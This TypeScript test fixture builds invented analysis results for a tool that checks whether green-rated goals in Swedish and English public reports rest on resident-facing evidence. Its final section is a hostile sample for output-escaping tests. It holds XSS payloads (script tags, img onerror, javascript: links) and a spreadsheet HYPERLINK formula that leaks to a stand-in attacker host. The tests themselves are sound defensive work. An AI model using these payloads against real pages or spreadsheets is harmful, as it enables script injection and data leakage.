/**
 * Hand-built analysis results for the formatter tests. All text is invented: none of it comes from a real
 * report. The tool version is fixed so that golden files do not change with package.json.
 */
import { createHash } from 'node:crypto';
import type {
  AnalysisResult,
  DocumentResult,
  DocumentSummary,
  Flag,
  Goal,
  Indicator,
  Label,
  Language,
  Sentence,
} from '../../src/model/result.js';
import { RESIDENT_FACING } from '../../src/model/result.js';
import { goalsOverTime } from '../../src/overtime/index.js';

export const TOOL_VERSION = '0.0.0-test';

const fakeSha = (seed: string): string => createHash('sha256').update(seed).digest('hex');

function sentence(text: string, page: number, label: Label, reasons: string[], confidence = 0.9): Sentence {
  return { text, page, label, residentFacing: RESIDENT_FACING.has(label), confidence, reasons };
}

/** An indicator as a table gives it, with no figure read unless a test says so. */
export function indicator(o: Pick<Indicator, 'name' | 'page' | 'values' | 'status' | 'residentFacing'> & Partial<Indicator>): Indicator {
  return { source: 'table', latest: null, target: null, floor: null, previous: null, unit: null, better: null, betterReason: null, meetsTarget: null, ...o };
}

function flagOn(code: Flag['code'], level: Flag['level'], message: string, sentences: Sentence[]): Flag {
  return { code, level, message, sentences: sentences.map(({ text, page, label }) => ({ text, page, label })) };
}

type GoalInput = Pick<Goal, 'id' | 'title' | 'page' | 'status' | 'statusSource' | 'statusEvidence' | 'evidence'> &
  Partial<Goal>;

function goal(input: GoalInput): Goal {
  return {
    line: null,
    orientation: 'residents',
    orientationReason: null,
    sentences: [],
    indicators: [],
    activities: [],
    flags: [],
    notFlaggedBecause: null,
    ...input,
  };
}

function summarise(goals: Goal[]): DocumentSummary {
  const byStatus = { green: 0, yellow: 0, red: 0, unknown: 0 };
  for (const g of goals) byStatus[g.status] += 1;
  const green = goals.filter((g) => g.status === 'green');
  const withEvidence = green.filter((g) => g.evidence === 'resident-facing' || g.evidence === 'mixed').length;
  return {
    goals: goals.length,
    byStatus,
    green: green.length,
    flaggedGreen: green.filter((g) => g.flags.length > 0).length,
    greenWithResidentEvidence: green.length > 0 ? withEvidence / green.length : null,
  };
}

function document(file: string, language: Language, pages: number, goals: Goal[]): DocumentResult {
  return { file, paths: [file], sha256: fakeSha(file), pages, language, organisation: null, kind: null, period: null, error: null, goals, summary: summarise(goals) };
}

function failedDocument(file: string, code: NonNullable<DocumentResult['error']>['code'], message: string): DocumentResult {
  return {
    file,
    paths: [file],
    sha256: fakeSha(file),
    pages: 0,
    language: 'sv',
    organisation: null,
    kind: null,
    period: null,
    error: { code, message },
    goals: [],
    summary: summarise([]),
  };
}

function analysis(documents: DocumentResult[]): AnalysisResult {
  const all = documents.flatMap((d) => d.goals);
  const s = summarise(all);
  return {
    schemaVersion: 1,
    tool: { name: 'verkstad', version: TOOL_VERSION },
    documents,
    summary: {
      documents: documents.length,
      failed: documents.filter((d) => d.error !== null).length,
      goals: s.goals,
      byStatus: s.byStatus,
      green: s.green,
      flaggedGreen: s.flaggedGreen,
      greenWithResidentEvidence: s.greenWithResidentEvidence,
    },
    goalsOverTime: goalsOverTime(documents),
  };
}

// --- A Swedish year-end report of an elderly care board --------------------------------------------------

const hemtjanstSentences = [
  sentence('Under året har förvaltningen infört en ny organisation för hemtjänsten med tre geografiska områden.', 7, 'internal', [
    'sv/internal/organisation',
  ]),
  sentence('All personal har genomgått utbildning i det nya planeringssystemet.', 7, 'internal', [
    'sv/internal/utbildning-personal',
    'sv/internal/system',
  ]),
  sentence('Kontaktcenter Omsorg tilldelades priset Årets kundtjänst i länet.', 8, 'internal', ['sv/internal/pris'], 0.84),
  sentence('Fokus kommer att läggas på kontinuitet under 2026.', 8, 'intention', [
    'sv/intention/kommer-att',
    'sv/intention/efter-perioden',
  ]),
];

const svGoals: Goal[] = [
  goal({
    id: 'sv-vard-2025/g1',
    title: 'Invånarna upplever en trygg och tillgänglig hemtjänst',
    page: 7,
    status: 'green',
    statusSource: 'colour',
    statusEvidence: 'image mark #99cb03 in column Bedömning',
    evidence: 'internal-only',
    sentences: hemtjanstSentences,
    activities: [{ title: 'Införa nytt planeringssystem', page: 8, status: 'green' }],
    flags: [
      flagOn(
        'GREEN_INTERNAL_ONLY',
        'warning',
        'Målet är grönt, men ingen av de 4 meningarna i motiveringen visar något som invånarna har fått eller märkt: de beskriver internt arbete och planer.',
        hemtjanstSentences,
      ),
    ],
  }),
  goal({
    id: 'sv-vard-2025/g2',
    title: 'Fler äldre ska kunna bo kvar hemma med stöd',
    page: 9,
    status: 'green',
    statusSource: 'colour',
    statusEvidence: 'image mark #99cb03 in column Bedömning',
    evidence: 'none',
    sentences: [sentence('Se indikatorer.', 9, 'context', ['sv/context/hanvisning'], 0.97)],
    flags: [
      flagOn(
        'GREEN_NO_EVIDENCE',
        'warning',
        'Målet är grönt, men motiveringen är bara en hänvisning och inga indikatorer om invånarna hör till målet.',
        [],
      ),
    ],
  }),
  goal({
    id: 'sv-vard-2025/g3',
    title: 'Vård och omsorg är en attraktiv arbetsgivare',
    page: 10,
    status: 'green',
    statusSource: 'colour',
    statusEvidence: 'image mark #99cb03 in column Bedömning',
    orientation: 'organisation',
    orientationReason: 'sv/orientation/attraktiv-arbetsgivare',
    evidence: 'internal-only',
    sentences: [
      sentence('Sjukfrånvaron bland medarbetarna minskade till 7,9 procent.', 10, 'internal', ['sv/internal/personal-matt']),
      sentence('En ny introduktion för nyanställda har tagits fram.', 10, 'internal', ['sv/internal/rutin']),
    ],
    indicators: [
      indicator({ name: 'Sjukfrånvaro, %', page: 10, values: ['7,9', '8,6'], status: 'green', residentFacing: false }),
    ],
    notFlaggedBecause: 'Målet gäller organisationen själv: internt arbete är rätt belägg.',
  }),
  goal({
    id: 'sv-vard-2025/g4',
    title: 'Väntetiden till särskilt boende ska minska',
    page: 11,
    status: 'green',
    statusSource: 'colour',
    statusEvidence: 'image mark #99cb03 in column Bedömning',
    evidence: 'mixed',
    sentences: [
      sentence(
        'Den genomsnittliga väntetiden till särskilt boende minskade från 74 till 52 dagar jämfört med 2024.',
        11,
        'outcome',
        ['sv/outcome/vantetid', 'sv/outcome/jamfort-med'],
        0.95,
      ),
      sentence('42 personer har erbjudits plats på boendet Solgläntan, som öppnade i maj.', 11, 'output', [
        'sv/output/har-erbjudits',
      ]),
      sentence('En ny rutin för biståndsbedömning har tagits fram.', 12, 'internal', ['sv/internal/rutin']),
    ],
    indicators: [
      indicator({ name: 'Väntetid till särskilt boende, dagar', page: 12, values: ['52', '74'], status: 'green', residentFacing: true }),
    ],
  }),
  goal({
    id: 'sv-vard-2025/g5',
    title: 'Andelen brukare som är nöjda med bemötandet ska öka',
    page: 13,
    status: 'yellow',
    statusSource: 'word',
    statusEvidence: 'word "Delvis uppfyllt" after heading',
    evidence: 'resident-facing',
    sentences: [
      sentence('Andelen nöjda brukare var 86 procent, två procentenheter lägre än förra året.', 13, 'outcome', [
        'sv/outcome/andel',
        'sv/outcome/procent',
      ]),
    ],
  }),
  goal({
    id: 'sv-vard-2025/g6',
    title: 'Personalkontinuiteten i hemtjänsten ska öka',
    page: 14,
    status: 'red',
    statusSource: 'colour',
    statusEvidence: 'vector circle #e03c31 left of heading',
    evidence: 'mixed',
    sentences: [
      sentence('Antalet olika medarbetare som en brukare möter under 14 dagar ökade till 17.', 14, 'outcome', [
        'sv/outcome/okade',
      ]),
      sentence('Nästa steg är att införa fasta team i alla områden.', 14, 'intention', ['sv/intention/nasta-steg']),
    ],
  }),
];

export const swedishDocument = document('rapporter/Årsredovisning 2025 Vård och omsorg.pdf', 'sv', 24, svGoals);

// --- An English quarterly performance report -----------------------------------------------------------

const roadsSentences = [
  sentence('A new highways governance framework was agreed by Cabinet in September.', 3, 'internal', [
    'en/internal/governance',
    'en/internal/framework',
  ]),
  sentence('200 staff attended road safety training and 94% rated it good or excellent.', 3, 'internal', [
    'en/internal/staff-training',
  ]),
  sentence('Further work with schools is planned for the spring.', 4, 'intention', ['en/intention/further-work-planned']),
];

const enGoals: Goal[] = [
  goal({
    id: 'en-qpr-q3/g1',
    title: 'Residents can travel safely on local roads',
    page: 3,
    status: 'green',
    statusSource: 'word',
    statusEvidence: 'word "GREEN" in column Latest',
    evidence: 'internal-only',
    sentences: roadsSentences,
    flags: [
      flagOn(
        'GREEN_INTERNAL_ONLY',
        'warning',
        'The goal is green, but none of its 3 sentences shows anything residents received or noticed: they describe internal work and plans.',
        roadsSentences,
      ),
    ],
  }),
  goal({
    id: 'en-qpr-q3/g2',
    title: 'Increase the supply of affordable homes',
    page: 5,
    status: 'yellow',
    statusSource: 'word',
    statusEvidence: 'word "AMBER" in column Latest',
    evidence: 'resident-facing',
    sentences: [
      sentence('We delivered 112 affordable homes against a target of 150.', 5, 'output', ['en/output/delivered-n']),
    ],
    indicators: [
      indicator({ name: 'Affordable homes delivered (year to date)', page: 5, values: ['112', '150'], status: 'yellow', residentFacing: true }),
    ] satisfies Indicator[],
  }),
  goal({
    id: 'en-qpr-q3/g3',
    title: 'A well-run council',
    page: 6,
    status: 'green',
    statusSource: 'word',
    statusEvidence: 'word "GREEN" in column Latest',
    orientation: 'organisation',
    orientationReason: 'en/orientation/well-run-council',
    evidence: 'internal-only',
    sentences: [sentence('The budget was balanced for the third year running.', 6, 'internal', ['en/internal/budget'])],
    notFlaggedBecause: 'organisation goal: internal evidence is what it should have',
  }),
  goal({
    id: 'en-qpr-q3/g4',
    title: 'Reduce waiting times for adult social care assessments',
    page: 7,
    status: 'unknown',
    statusSource: 'none',
    statusEvidence: 'no status mark found near the heading',
    evidence: 'resident-facing',
    sentences: [sentence('The average wait fell to 21 days.', 7, 'outcome', ['en/outcome/fell-to'])],
  }),
];

export const englishDocument = document('reports/QPR Q3 2025.pdf', 'en', 12, enGoals);

export const brokenDocument = failedDocument(
  'reports/broken.pdf',
  'INVALID_PDF',
  'Invalid PDF structure: the cross-reference table could not be read.',
);

/** Swedish, English and a document that could not be read. */
export const sampleResult: AnalysisResult = analysis([swedishDocument, englishDocument, brokenDocument]);

/** Only the Swedish document: the HTML report uses Swedish words. */
export const swedishResult: AnalysisResult = analysis([swedishDocument]);

// --- A hostile document: everything from the PDF tries to run or to break the format ---------------------

export const HOSTILE_TITLE = `<script>alert(1)</script><script>window.__pwned=1</script> Safer "streets" & 'parks', 100% done`;

const hostileSentences = [
  sentence('</script><script>alert(1);window.__pwned=1</script> The working group met 12 times.', 2, 'internal', [
    'en/internal/working-group',
  ]),
  sentence(`<img src=x onerror=alert(1)><img src=x onerror="window.__pwned=1"> A "new" strategy & framework was drafted.`, 2, 'internal', [
    'en/internal/strategy',
  ]),
  sentence('=HYPERLINK("http://attacker.invalid/?leak","click me")', 3, 'context', ['en/context/none']),
  sentence('Line one\nline two, with: a colon, 100% and \u001b[31mred\u001b[0m text | pipe *stars* [link](javascript:alert(1))', 3, 'intention', [
    'en/intention/will',
  ]),
];

const hostileGoals: Goal[] = [
  goal({
    id: 'hostile/g1',
    title: HOSTILE_TITLE,
    page: 2,
    status: 'green',
    statusSource: 'colour',
    statusEvidence: '<b onmouseover=alert(1)>mark</b> #00ff00',
    evidence: 'internal-only',
    sentences: hostileSentences,
    flags: [
      flagOn(
        'GREEN_INTERNAL_ONLY',
        'error',
        'Green, but only internal work: </script><script>alert(1)</script> & <img src=x onerror=alert(1)>',
        hostileSentences,
      ),
    ],
  }),
  goal({
    id: 'hostile/g2',
    title: 'Parks & playgrounds for every neighbourhood',
    page: 4,
    status: 'green',
    statusSource: 'colour',
    statusEvidence: 'vector circle #2da44e left of heading',
    evidence: 'resident-facing',
    sentences: [sentence('Residents opened 3 new playgrounds with the "friends of the park" group.', 4, 'output', ['en/output/opened'])],
  }),
  goal({
    id: 'hostile/g3',
    title: `Library "opening hours" <extended> & 'kept'`,
    page: 5,
    status: 'yellow',
    statusSource: 'word',
    statusEvidence: 'word "AMBER"',
    evidence: 'resident-facing',
    sentences: [sentence('Opening hours rose to 52 per week, up from 40.', 5, 'outcome', ['en/outcome/rose-to'])],
  }),
];

export const HOSTILE_FILE = `javascript:alert(1)<img src=x onerror=alert(1)> "report" & co, 50%.pdf`;

export const hostileResult: AnalysisResult = analysis([
  document(HOSTILE_FILE, 'en', 6, hostileGoals),
  failedDocument('uploads/</script><script>alert(1)</script>.pdf', 'INTERNAL', '<img src=x onerror=alert(1)> crashed\nsecond line'),
]);

export const SAMPLES = { sample: sampleResult, swedish: swedishResult, hostile: hostileResult } as const;
